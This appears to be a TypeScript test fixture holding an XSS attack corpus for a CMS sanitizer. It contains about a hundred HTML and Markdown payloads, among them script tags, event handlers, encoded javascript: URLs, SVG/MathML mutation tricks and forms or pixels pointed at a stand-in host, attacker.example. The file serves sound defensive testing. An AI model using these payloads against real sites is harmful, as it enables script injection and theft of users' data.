/**
 * The attack corpus for CMS rich text (ARCHITECTURE rule 7): HTML that tries to run script,
 * reach another host, or restyle the page. Every vector calls `__canary(<id>)` if it ever
 * runs, and every request it could make goes to ATTACKER_HOST, so a browser test can tell
 * that nothing got through. Used by the sanitizer's unit tests and by the browser test
 * that writes the corpus into PocketBase records (test/e2e/attack-corpus.test.ts).
 */

export const CANARY = "__canary";
export const ATTACKER_HOST = "attacker.example";
const A = `https://${ATTACKER_HOST}`;

export interface AttackVector {
  id: string;
  html: string;
  /** Left open on purpose (an unclosed <script>, <svg>, …): like a browser, the sanitizer
   * drops everything after it, so nothing may follow it in one field. */
  swallowsRest?: boolean;
}

const call = (id: string) => `${CANARY}('${id}')`;
const entities = (text: string, radix: 10 | 16) =>
  [...text].map((ch) => (radix === 10 ? `&#${ch.charCodeAt(0)};` : `&#x${ch.charCodeAt(0).toString(16)};`)).join("");

export const HTML_VECTORS: AttackVector[] = [
  // Script elements
  { id: "script", html: `<script>${call("script")}</script>` },
  { id: "script-src", html: `<SCRIPT SRC=${A}/x.js></SCRIPT>` },
  { id: "script-protocol-relative", html: `<script src="//${ATTACKER_HOST}/x.js"></script>` },
  { id: "script-nested-name", html: `<scr<script>ipt>${call("script-nested-name")}</scr</script>ipt>` },
  { id: "script-comment-split", html: `<script>/*</script><script>*/${call("script-comment-split")}</script>` },
  { id: "script-mixed-case", html: `<ScRiPt >${call("script-mixed-case")}</sCrIpT >` },
  { id: "script-module", html: `<script type="module">${call("script-module")}</script>` },
  { id: "script-slash-attrs", html: `<script/x src=${A}/slash.js></script>` },
  // Event handlers
  { id: "img-onerror", html: `<img src=x onerror=${call("img-onerror")}>` },
  { id: "img-onerror-upper", html: `<IMG SRC=x ONERROR="${call("img-onerror-upper")}">` },
  { id: "img-slash-separated", html: `<img/src=x/onerror=${call("img-slash-separated")}>` },
  { id: "img-onload-own-file", html: `<img src="/api/files/x/y/z.png" onload="${call("img-onload-own-file")}">` },
  { id: "body-onload", html: `<body onload=${call("body-onload")}>` },
  { id: "svg-onload", html: `<svg onload=${call("svg-onload")}></svg>` },
  { id: "details-ontoggle", html: `<details open ontoggle=${call("details-ontoggle")}><summary>s</summary></details>` },
  { id: "input-autofocus", html: `<input autofocus onfocus=${call("input-autofocus")}>` },
  { id: "source-onerror", html: `<video><source onerror=${call("source-onerror")}></video>` },
  { id: "audio-onerror", html: `<audio src=x onerror=${call("audio-onerror")}></audio>` },
  { id: "marquee-onstart", html: `<marquee onstart=${call("marquee-onstart")}>m</marquee>` },
  { id: "p-onclick", html: `<p onclick="${call("p-onclick")}" onmouseover="${call("p-onmouseover")}">hover or click</p>` },
  { id: "a-autofocus", html: `<a href="#x" autofocus onfocus=${call("a-autofocus")}>focus</a>` },
  { id: "select-onfocus", html: `<select autofocus onfocus=${call("select-onfocus")}><option>o</option></select>` },
  { id: "iframe-onload", html: `<iframe onload=${call("iframe-onload")}></iframe>` },
  { id: "form-onsubmit", html: `<form onsubmit=${call("form-onsubmit")}><input type=submit></form>` },
  // Dangerous URLs in href, src, srcset, formaction and friends
  { id: "href-javascript", html: `<a href="javascript:${call("href-javascript")}">a</a>` },
  { id: "href-javascript-case", html: `<a href="JaVaScRiPt:${call("href-javascript-case")}">a</a>` },
  { id: "href-javascript-tab", html: `<a href="jav&#x09;ascript:${call("href-javascript-tab")}">a</a>` },
  { id: "href-javascript-newline", html: `<a href="java\nscript:${call("href-javascript-newline")}">a</a>` },
  { id: "href-javascript-decimal", html: `<a href="${entities("javascript:", 10)}${call("href-javascript-decimal")}">a</a>` },
  { id: "href-javascript-hex", html: `<a href="${entities("javascript:", 16)}${call("href-javascript-hex")}">a</a>` },
  { id: "href-javascript-no-semicolons", html: `<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58${call("href-javascript-no-semicolons")}">a</a>` },
  { id: "href-javascript-named-colon", html: `<a href="javascript&colon;${call("href-javascript-named-colon")}">a</a>` },
  { id: "href-javascript-control", html: `<a href="\u0001 javascript:${call("href-javascript-control")}">a</a>` },
  { id: "href-javascript-unquoted", html: `<a href=javascript:${call("href-javascript-unquoted")}>a</a>` },
  { id: "href-vbscript", html: `<a href="vbscript:msgbox(1)">a</a>` },
  { id: "href-data", html: `<a href="data:text/html;base64,PHNjcmlwdD5fX2NhbmFyeSgiZGF0YSIpPC9zY3JpcHQ+">a</a>` },
  { id: "href-double-encoded-backslash", html: `<a href="/&#38;#92;${ATTACKER_HOST}/">a</a>` },
  { id: "href-protocol-relative", html: `<a href="//${ATTACKER_HOST}/">a</a>` },
  { id: "img-src-javascript", html: `<IMG SRC=JaVaScRiPt:${call("img-src-javascript")}>` },
  { id: "img-src-entity-javascript", html: `<img src=&#x6a;avascript:${call("img-src-entity-javascript")}>` },
  { id: "img-src-data-svg", html: `<img src="data:image/svg+xml,&lt;svg onload=${call("img-src-data-svg")}&gt;">` },
  { id: "img-src-remote", html: `<img src="${A}/pixel.gif" alt="tracking pixel">` },
  { id: "img-src-double-encoded-dots", html: `<img src="/api/files/&#38;#46;&#38;#46;/&#38;#46;&#38;#46;/${ATTACKER_HOST}.png">` },
  { id: "img-srcset", html: `<img src="/api/files/a/b/c.png" srcset="${A}/2x.png 2x">` },
  { id: "picture-source", html: `<picture><source srcset="${A}/p.png"><img src="/api/files/a/b/p.png"></picture>` },
  { id: "button-formaction", html: `<form><button formaction="javascript:${call("button-formaction")}">send</button></form>` },
  { id: "form-action", html: `<form action="${A}/steal" method="post"><input name="q" value="x"><button>send</button></form>` },
  { id: "input-image", html: `<input type="image" src="${A}/i.png">` },
  { id: "iframe-javascript", html: `<iframe src="javascript:parent.${call("iframe-javascript")}"></iframe>` },
  { id: "iframe-srcdoc", html: `<iframe srcdoc="&lt;script&gt;parent.${call("iframe-srcdoc")}&lt;/script&gt;"></iframe>` },
  { id: "object-data", html: `<object data="${A}/o.html"></object>` },
  { id: "embed-src", html: `<embed src="${A}/e.html">` },
  { id: "base-href", html: `<base href="${A}/">` },
  { id: "meta-refresh", html: `<meta http-equiv="refresh" content="0;url=${A}/refresh">` },
  { id: "link-stylesheet", html: `<link rel="stylesheet" href="${A}/s.css">` },
  { id: "link-preload", html: `<link rel="preload" as="image" href="${A}/preload.png">` },
  { id: "video-poster", html: `<video poster="${A}/poster.png"></video>` },
  { id: "table-background", html: `<table background="${A}/bg.png"><tr><td>t</td></tr></table>` },
  { id: "a-ping", html: `<a href="https://partner.example/" ping="${A}/ping">partner</a>` },
  // SVG and MathML
  { id: "svg-script", html: `<svg><script>${call("svg-script")}</script></svg>` },
  { id: "svg-xlink-href", html: `<svg><a xlink:href="javascript:${call("svg-xlink-href")}"><text x="0" y="20">x</text></a></svg>` },
  { id: "svg-animate-onbegin", html: `<svg><animate onbegin=${call("svg-animate-onbegin")} attributeName=x dur=1s></animate></svg>` },
  { id: "svg-set-handler", html: `<svg><set attributeName="onmouseover" to="${call("svg-set-handler")}"></set></svg>` },
  { id: "svg-use-remote", html: `<svg><use href="${A}/u.svg#x"></use></svg>` },
  { id: "svg-foreignobject", html: `<svg><foreignObject><img src=x onerror=${call("svg-foreignobject")}></foreignObject></svg>` },
  { id: "svg-style-img", html: `<svg><style><img src=x onerror=${call("svg-style-img")}></style></svg>` },
  {
    id: "math-mglyph-style",
    html: `<math><mtext><table><mglyph><style><img src=x onerror=${call("math-mglyph-style")}></style></mglyph></table></mtext></math>`,
  },
  { id: "math-href", html: `<math href="javascript:${call("math-href")}"><mi>x</mi></math>` },
  { id: "math-maction", html: `<math><maction actiontype="statusline" xlink:href="javascript:${call("math-maction")}">m</maction></math>` },
  // Style-based
  { id: "style-attr-url", html: `<div style="background:url(${A}/bg.png)">styled</div>` },
  { id: "style-attr-expression", html: `<div style="width:expression(${call("style-attr-expression")})">e</div>` },
  { id: "style-element-import", html: `<style>@import url(${A}/i.css); body{background:url(${A}/b.png)}</style>` },
  { id: "style-overlay", html: `<div style="position:fixed;inset:0;z-index:99999;background:#fff">fake overlay</div>` },
  { id: "class-restyle", html: `<p class="fixed-top position-fixed d-none">restyled</p>` },
  { id: "id-clobbers-hydration-data", html: `<p id="__router_data" name="__router_data">{"loaderData":{}}</p>` },
  // Entity- and case-encoded, and broken markup that re-forms a tag
  { id: "escaped-markup-stays-text", html: `&lt;script&gt;${call("escaped-markup-stays-text")}&lt;/script&gt;` },
  { id: "double-lt", html: `<<script>script>${call("double-lt")}<</script>/script>` },
  { id: "quotes-break", html: `<img """><script>${call("quotes-break")}</script>">` },
  { id: "comment-reform", html: `<!--<img src="--><img src=x onerror=${call("comment-reform")}//">` },
  { id: "noscript-reform", html: `<noscript><p title="</noscript><img src=x onerror=${call("noscript-reform")}>"></noscript>` },
  { id: "attribute-break", html: `<a href="/ok"<img src=x onerror=${call("attribute-break")}>>x</a>` },
  { id: "backtick-attribute", html: `<img src=\`x\` onerror=${call("backtick-attribute")}>` },
  { id: "textarea-reform", html: `<textarea><img title="</textarea><img src=x onerror=${call("textarea-reform")}>"></textarea>` },
  { id: "title-reform", html: `<title><img title="</title><img src=x onerror=${call("title-reform")}>"></title>` },
  { id: "conditional-comment", html: `<!--[if gte IE 4]><script>${call("conditional-comment")}</script><![endif]-->` },
  { id: "cdata", html: `<![CDATA[<img src=x onerror=${call("cdata")}>]]>` },
  { id: "null-in-tag", html: `<img src=x o\u0000nerror=${call("null-in-tag")}>` },
  // Left open: each must be the last vector of its field
  { id: "unclosed-script", html: `<script>${call("unclosed-script")}`, swallowsRest: true },
  { id: "unclosed-svg", html: `<svg><script>${call("unclosed-svg")}`, swallowsRest: true },
  { id: "unclosed-style", html: `<style>*{background:url(${A}/unclosed.png)}`, swallowsRest: true },
  // Runs into whatever follows up to the next ">", so it comes last.
  { id: "unclosed-tag", html: `<img src=x onerror=${call("unclosed-tag")} ` },
];

/** Markdown (blog article content): marked passes inline HTML and link targets through. */
export const MARKDOWN_VECTORS: AttackVector[] = [
  { id: "md-link-javascript", html: `[click](javascript:${call("md-link-javascript")})` },
  { id: "md-link-angle", html: `[click](<javascript:${call("md-link-angle")}>)` },
  { id: "md-link-entity", html: `[click](&#106;avascript:${call("md-link-entity")})` },
  { id: "md-reference", html: `[click][evil]\n\n[evil]: javascript:${call("md-reference")}` },
  { id: "md-autolink", html: `<javascript:${call("md-autolink")}>` },
  { id: "md-image-remote", html: `![pixel](${A}/md.png)` },
  { id: "md-image-onerror", html: `![x" onerror="${call("md-image-onerror")}](x)` },
  { id: "md-inline-html", html: `Text <img src=x onerror=${call("md-inline-html")}> more` },
  { id: "md-code-span", html: `Inline \`<script>${call("md-code-span")}</script>\` stays code` },
  { id: "md-fence-breakout", html: `\`\`\`html\n</code></pre><script>${call("md-fence-breakout")}</script>\n\`\`\`` },
];

/** Plain-text fields (titles, subheadings, meta fields): React escapes them, and JSON blocks escape `</script>`. */
export const TEXT_VECTOR = `"'></title></script><script>${call("text")}</script><img src=x onerror=${call("text-img")}>`;

/** Formatting editors use, which must survive the sanitizer as it is: one marker word per element. */
export function safeFormatting(imageSrc: string): string {
  return (
    `<h3>SafeHeading</h3><p>Save <strong>SafeStrong</strong> and <em>SafeEm</em>.</p><ul><li>SafeItem</li></ul>` +
    `<ol start="2"><li>SafeNumbered</li></ol><blockquote>SafeQuote</blockquote>` +
    `<table><thead><tr><th scope="col">SafeHead</th></tr></thead><tbody><tr><td>SafeCell</td></tr></tbody></table>` +
    `<p><a href="https://partner.example/deal?a=1&amp;b=2" target="_blank" rel="noopener nofollow">SafeLink</a> <a href="/stores">SafeSiteLink</a></p>` +
    `<pre><code class="language-ts">const safe = 1 &lt; 2;</code></pre>` +
    `<img src="${imageSrc}" alt="SafeImage" width="40" height="40">`
  );
}

/**
 * The vectors split into fields: each field ends at most with one vector that swallows the
 * rest, so every vector is still parsed. Every field also carries the safe formatting.
 */
export function vectorFields(vectors: AttackVector[], separator = "\n"): string[] {
  const fields: string[][] = [[]];
  for (const vector of vectors) {
    fields.at(-1)!.push(vector.html);
    if (vector.swallowsRest) fields.push([]);
  }
  return fields.filter((field) => field.length > 0).map((field) => field.join(separator));
}

/** The elements src/data/sanitize.ts lets through: anything else in sanitized CMS HTML is a leak
 * (the unit corpus checks the sanitizer's output, the browser test the rendered page). */
export const SANITIZED_TAGS: readonly string[] = [
  "h1",
  "h2",
  "h3",
  "h4",
  "h5",
  "h6",
  "p",
  "br",
  "hr",
  "div",
  "span",
  "strong",
  "b",
  "em",
  "i",
  "u",
  "s",
  "del",
  "ins",
  "mark",
  "small",
  "sub",
  "sup",
  "blockquote",
  "q",
  "cite",
  "abbr",
  "code",
  "pre",
  "kbd",
  "ul",
  "ol",
  "li",
  "dl",
  "dt",
  "dd",
  "a",
  "img",
  "figure",
  "figcaption",
  "table",
  "caption",
  "thead",
  "tbody",
  "tfoot",
  "tr",
  "th",
  "td",
];
